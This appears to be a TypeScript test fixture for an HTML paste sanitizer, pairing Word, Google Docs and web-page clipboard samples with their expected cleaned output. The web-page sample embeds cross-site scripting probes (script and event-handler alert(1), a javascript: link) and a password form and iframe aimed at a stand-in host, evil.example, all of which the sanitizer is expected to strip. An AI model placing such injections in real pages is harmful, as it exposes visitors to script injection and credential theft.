/** Clipboard content from Word, with its namespace, styles, conditional comments and lists as paragraphs. */
export const fromWord = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta name=Generator content="Microsoft Word 15"><!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style><!-- /* Style Definitions */ p.MsoNormal {mso-style-unhide:no; font-size:11.0pt;} @page WordSection1 {size:595.3pt 841.9pt;} --></style></head>
<body lang=SV style='tab-interval:65.2pt'><!--StartFragment-->
<h1 style='mso-outline-level:1'><span style='mso-ansi-language:SV'>Bonus och villkor<o:p></o:p></span></h1>
<p class=MsoNormal style='margin-bottom:0cm;line-height:normal'>Ett <b style='mso-bidi-font-weight:normal'>lugnt</b> val
med <i>tydliga</i> <span style='font-weight:bold'>gränser</span>.<o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;</span></span></span><![endif]>Swish<o:p></o:p></p>
<p class=MsoListParagraphCxSpMiddle style='text-indent:-18.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>o<span>&nbsp;&nbsp;</span></span><![endif]>Bara uttag<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp;&nbsp;</span></span><![endif]>Trustly<o:p></o:p></p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>1.<span>&nbsp;&nbsp;</span></span><![endif]>Registrera<o:p></o:p></p>
<p class=MsoNormal><a name="_Toc1"></a><a href="https://example.com/villkor"><span style='color:windowtext'>Villkor</span></a><img width=1 height=1 src="file:///C:/Users/a/clip_image001.png" v:shapes="x"></p>
<!--EndFragment--></body></html>`

const fromWordCleaned = `<h2>Bonus och villkor</h2>
<p>Ett <strong>lugnt</strong> val med <em>tydliga</em> <strong>gränser</strong>.</p>
<ul>
<li>Swish
<ul>
<li>Bara uttag</li>
</ul></li>
<li>Trustly</li>
</ul>
<ol>
<li>Registrera</li>
</ol>
<p><a href="https://example.com/villkor" rel="sponsored nofollow noopener" target="_blank">Villkor</a></p>`

/** Clipboard content from Google Docs, which wraps everything in a non-bold `<b>` and marks bold text by style alone. */
export const fromGoogleDocs = `<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-1a2b3c"><h2 dir="ltr" style="line-height:1.38;margin-top:18pt;"><span style="font-size:16pt;font-family:Arial,sans-serif;font-weight:400;white-space:pre-wrap;">Spelutbud</span></h2><p dir="ltr" style="line-height:1.38;"><span style="font-weight:700;">Drygt 480</span><span style="font-weight:400;"> spel, </span><span style="font-weight:400;font-style:italic;">mest</span><span style="font-weight:400;"> automater.</span></p><ul style="margin-top:0;padding-inline-start:48px;"><li dir="ltr" style="list-style-type:disc;" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:400;">Bingo</span></p></li></ul><br /></b>`

const fromGoogleDocsCleaned = `<h2>Spelutbud</h2>
<p><strong>Drygt 480</strong> spel, <em>mest</em> automater.</p>
<ul>
<li>Bingo</li>
</ul>`

export const fromWebPage = `<div class="article" id="x" onclick="alert(1)"><style>.article{color:red}</style><script>alert(1)</script>
<header><h1 class="t">Rubrik</h1></header>
<p style="position:fixed" class="lead">Ingress <font color="red">i rött</font> <u>och</u> <code>kod</code>.</p>
<div>En <a href="javascript:alert(1)" onclick="x()">farlig</a> och en <a class="btn" href="/casinos" target="_top">egen</a> länk.</div>
<figure><img src="https://example.com/a.png" onerror="alert(1)" alt="Vy" class="w-full" srcset="b.png 2x"><figcaption>Bildtext</figcaption></figure>
<img src="data:image/png;base64,AAAA" alt="data"><img src="https://example.com/count.gif" width="1" height="1">
<table class="grid" border="1"><caption>Gränser</caption><thead><tr><th scope="col" style="width:9px">Metod</th></tr></thead><tbody><tr><td colspan="2">Swish</td></tr></tbody></table>
<form action="https://evil.example"><input name="password" value="x"><button>Skicka</button></form>
<iframe src="https://evil.example"></iframe><svg><text>Ikon</text></svg><h6>Liten rubrik</h6></div>`

export const fromWebPageCleaned = `<h2>Rubrik</h2>
<p>Ingress i rött och kod.</p>
<p>En farlig och en <a href="/casinos">egen</a> länk.</p>
<figure>
<img src="https://example.com/a.png" alt="Vy" loading="lazy" />
<figcaption>Bildtext</figcaption>
</figure>
<table>
<caption>Gränser</caption>
<thead>
<tr>
<th scope="col">Metod</th>
</tr>
</thead>
<tbody>
<tr>
<td colspan="2">Swish</td>
</tr>
</tbody>
</table>
<h4>Liten rubrik</h4>`

/** Each sample: its origin, the pasted HTML and the HTML that the editor makes of it. */
export const pasteSamples = [
  ['Word', fromWord, fromWordCleaned],
  ['Google Docs', fromGoogleDocs, fromGoogleDocsCleaned],
  ['a web page', fromWebPage, fromWebPageCleaned],
] as const
